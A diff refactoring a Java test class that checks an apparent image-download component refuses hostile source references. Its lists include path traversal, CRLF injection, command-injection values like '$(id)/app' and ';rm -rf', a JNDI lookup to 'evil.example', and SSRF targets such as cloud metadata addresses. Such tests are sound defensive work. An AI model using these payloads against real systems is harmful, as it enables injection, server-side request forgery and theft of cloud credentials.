@@ -21,6 +21,130 @@ class HostileSourcesTest {
 
   private static final String DIGEST = "sha256:" + "ab".repeat(32);
 
+  private static final List<String> MALFORMED =
+      List.of(
+          "",
+          " ",
+          "/",
+          ":",
+          "@",
+          "//",
+          "ubuntu ",
+          " ubuntu",
+          "ubuntu:",
+          "ubuntu@",
+          ":tag",
+          "/ubuntu",
+          "ubuntu/",
+          "a//b",
+          "a/../b",
+          "../etc/passwd",
+          "./a",
+          "a/./b",
+          "a/%2e%2e/b",
+          "Ubuntu",
+          "library/Ubuntu",
+          "registry.example/App",
+          "ubuntu:-tag",
+          "ubuntu:.tag",
+          "ubuntu:ta g",
+          "ubuntu:tag:tag",
+          "ubuntu:" + "t".repeat(129),
+          "ubuntu:täg",
+          "ubuntu@sha256:",
+          "ubuntu@sha256:abcd",
+          "ubuntu@md5:" + "a".repeat(32),
+          "ubuntu@sha256:" + "AB".repeat(32),
+          "ubuntu@sha256:" + "ab".repeat(31) + "zz",
+          "ubuntu@" + DIGEST + "@" + DIGEST,
+          "ubuntu@sha512:" + "ab".repeat(32),
+          "http://registry.example/app",
+          "https://registry.example/app",
+          "https://user:hunter2@registry.example/app",
+          "user:hunter2@registry.example/app",
+          "file:///etc/passwd",
+          "docker://ubuntu",
+          "oci://registry.example/app",
+          "ftp://registry.example/app",
+          "gopher://127.0.0.1:70/_x",
+          "jar:file:/x!/y",
+          "registry.example:0/app",
+          "registry.example:65536/app",
+          "registry.example:/app",
+          "registry.example:port/app",
+          "registry.example:-1/app",
+          "registry..example/app",
+          ".example/app",
+          "registry.example./app",
+          "-registry.example/app",
+          "registry-.example/app",
+          "reg_istry.example/app",
+          "[::1/app",
+          "::1/app",
+          "[::1]app",
+          "[zz::1]/app",
+          "[::1%25eth0]/app",
+          "[]/app",
+          "[1.2.3.4]/app",
+          "1.2.3.4.5:99999/app",
+          "registry.example/app?x=y",
+          "registry.example/app#fragment",
+          "registry.example/app\r\nHost: evil",
+          "registry.example/app\u0000",
+          "registry.example/\u202eapp",
+          "реestr.example/app",
+          "registry.example\\@evil.example/app",
+          "registry.example/app;rm -rf",
+          "$(id)/app",
+          "registry.example/" + "a".repeat(256),
+          "a".repeat(2000),
+          "registry.example/",
+          "registry.example/a..b",
+          "registry.example/a___b",
+          "registry.example/_a",
+          "registry.example/a-",
+          "${jndi:ldap://evil.example/x}",
+          "a".repeat(64) + ".example/app");
+
+  /** Ways to write an address where only this machine answers; a listener's port follows. */
+  private static final List<String> LOOPBACK4 =
+      List.of(
+          "127.0.0.1",
+          "127.1",
+          "2130706433",
+          "127.8.8.8",
+          "0.0.0.0",
+          "localhost",
+          "[::ffff:127.0.0.1]",
+          "[::127.0.0.1]",
+          "[64:ff9b::127.0.0.1]",
+          "[2002:7f00:1::]",
+          "loopback.evil.example",
+          "mixed.evil.example",
+          "zero.evil.example",
+          "nat64.evil.example",
+          "sixtofour.evil.example");
+
+  private static final List<String> LOOPBACK6 =
+      List.of("[::1]", "[::]", "loopback6.evil.example", "mixed6.evil.example");
+
+  private static final List<String> FORBIDDEN =
+      List.of(
+          "169.254.169.254/latest",
+          "169.254.169.254:80/latest/meta-data",
+          "metadata.google.internal/computemetadata",
+          "link.evil.example/app",
+          "multicast.evil.example/app",
+          "azure.evil.example/app",
+          "aws6.evil.example/app",
+          "[fd00:ec2::254]/latest",
+          "[fe80::1]/app",
+          "[ff02::1]/app",
+          "255.255.255.255/app",
+          "100.100.100.200/latest",
+          "224.0.0.1/app",
+          "240.0.0.1/app");
+
   /** What a hostile name server answers; every other name is unknown, nothing is looked up. */
   private static final Map<String, List<String>> NAMES =
       Map.ofEntries(
@@ -40,13 +164,12 @@ class HostileSourcesTest {
 
   @Test
   void refusesEachOfMoreThanAHundredWithASentenceAndConnectsToNone() throws IOException {
-    List<String> malformed = malformed();
     int before = Thread.activeCount();
     int judged = 0;
     try (ScriptedServer four = ScriptedServer.plain((seen, reply) -> reply.hangUp());
         ScriptedServer six = ScriptedServer.at("::1", (seen, reply) -> reply.hangUp())) {
       ImageDownload open = download(List.of("*"));
-      for (String reference : malformed) {
+      for (String reference : MALFORMED) {
         judged += refused(open, InvalidSource.class, reference);
       }
       for (String reference : atForbiddenAddresses(four.port(), six.port())) {
@@ -84,135 +207,10 @@ class HostileSourcesTest {
     return 1;
   }
 
-  private static List<String> malformed() {
-    List<String> all =
-        new ArrayList<>(
-            List.of(
-                "",
-                " ",
-                "/",
-                ":",
-                "@",
-                "//",
-                "ubuntu ",
-                " ubuntu",
-                "ubuntu:",
-                "ubuntu@",
-                ":tag",
-                "/ubuntu",
-                "ubuntu/",
-                "a//b",
-                "a/../b",
-                "../etc/passwd",
-                "./a",
-                "a/./b",
-                "a/%2e%2e/b",
-                "Ubuntu",
-                "library/Ubuntu",
-                "registry.example/App",
-                "ubuntu:-tag",
-                "ubuntu:.tag",
-                "ubuntu:ta g",
-                "ubuntu:tag:tag",
-                "ubuntu:" + "t".repeat(129),
-                "ubuntu:täg",
-                "ubuntu@sha256:",
-                "ubuntu@sha256:abcd",
-                "ubuntu@md5:" + "a".repeat(32),
-                "ubuntu@sha256:" + "AB".repeat(32),
-                "ubuntu@sha256:" + "ab".repeat(31) + "zz",
-                "ubuntu@" + DIGEST + "@" + DIGEST,
-                "ubuntu@sha512:" + "ab".repeat(32),
-                "http://registry.example/app",
-                "https://registry.example/app",
-                "https://user:hunter2@registry.example/app",
-                "user:hunter2@registry.example/app",
-                "file:///etc/passwd",
-                "docker://ubuntu",
-                "oci://registry.example/app",
-                "ftp://registry.example/app",
-                "gopher://127.0.0.1:70/_x",
-                "jar:file:/x!/y",
-                "registry.example:0/app",
-                "registry.example:65536/app",
-                "registry.example:/app",
-                "registry.example:port/app",
-                "registry.example:-1/app",
-                "registry..example/app",
-                ".example/app",
-                "registry.example./app",
-                "-registry.example/app",
-                "registry-.example/app",
-                "reg_istry.example/app",
-                "[::1/app",
-                "::1/app",
-                "[::1]app",
-                "[zz::1]/app",
-                "[::1%25eth0]/app",
-                "[]/app",
-                "[1.2.3.4]/app",
-                "1.2.3.4.5:99999/app",
-                "registry.example/app?x=y",
-                "registry.example/app#fragment",
-                "registry.example/app\r\nHost: evil",
-                "registry.example/app\u0000",
-                "registry.example/\u202eapp",
-                "реestr.example/app",
-                "registry.example\\@evil.example/app",
-                "registry.example/app;rm -rf",
-                "$(id)/app",
-                "registry.example/" + "a".repeat(256),
-                "a".repeat(2000),
-                "registry.example/",
-                "registry.example/a..b",
-                "registry.example/a___b",
-                "registry.example/_a",
-                "registry.example/a-",
-                "${jndi:ldap://evil.example/x}"));
-    all.add("a".repeat(64) + ".example/app");
-    return all;
-  }
-
   private static List<String> atForbiddenAddresses(int four, int six) {
-    List<String> all = new ArrayList<>();
-    for (String host :
-        List.of(
-            "127.0.0.1",
-            "127.1",
-            "2130706433",
-            "127.8.8.8",
-            "0.0.0.0",
-            "localhost",
-            "[::ffff:127.0.0.1]",
-            "[::127.0.0.1]",
-            "[64:ff9b::127.0.0.1]",
-            "[2002:7f00:1::]",
-            "loopback.evil.example",
-            "mixed.evil.example",
-            "zero.evil.example",
-            "nat64.evil.example",
-            "sixtofour.evil.example")) {
-      all.add(host + ":" + four + "/app:1");
-    }
-    for (String host : List.of("[::1]", "[::]", "loopback6.evil.example", "mixed6.evil.example")) {
-      all.add(host + ":" + six + "/app:1");
-    }
-    all.addAll(
-        List.of(
-            "169.254.169.254/latest",
-            "169.254.169.254:80/latest/meta-data",
-            "metadata.google.internal/computemetadata",
-            "link.evil.example/app",
-            "multicast.evil.example/app",
-            "azure.evil.example/app",
-            "aws6.evil.example/app",
-            "[fd00:ec2::254]/latest",
-            "[fe80::1]/app",
-            "[ff02::1]/app",
-            "255.255.255.255/app",
-            "100.100.100.200/latest",
-            "224.0.0.1/app",
-            "240.0.0.1/app"));
+    List<String> all = new ArrayList<>(FORBIDDEN);
+    LOOPBACK4.forEach(host -> all.add(host + ":" + four + "/app:1"));
+    LOOPBACK6.forEach(host -> all.add(host + ":" + six + "/app:1"));
     return all;
   }
 
